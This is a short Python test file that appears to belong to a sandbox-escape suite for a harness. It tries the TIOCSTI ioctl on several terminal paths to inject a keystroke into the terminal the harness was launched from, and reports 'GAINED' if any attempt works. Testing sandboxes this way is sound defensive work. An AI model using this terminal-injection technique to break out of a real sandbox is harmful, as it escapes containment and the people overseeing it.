"""Pushes characters into the terminal that the harness was started from."""

from attack import Attack, python, tried

ATTACK = Attack(
    (
        tried(
            python(
                """
import fcntl, os, termios
for path in ("/dev/tty", "/dev/console", "/proc/1/fd/0", "/proc/self/fd/0"):
    try:
        fcntl.ioctl(os.open(path, os.O_RDWR), termios.TIOCSTI, b"x")
        print("GAINED")
    except OSError:
        pass
"""
            )
        ),
    )
)
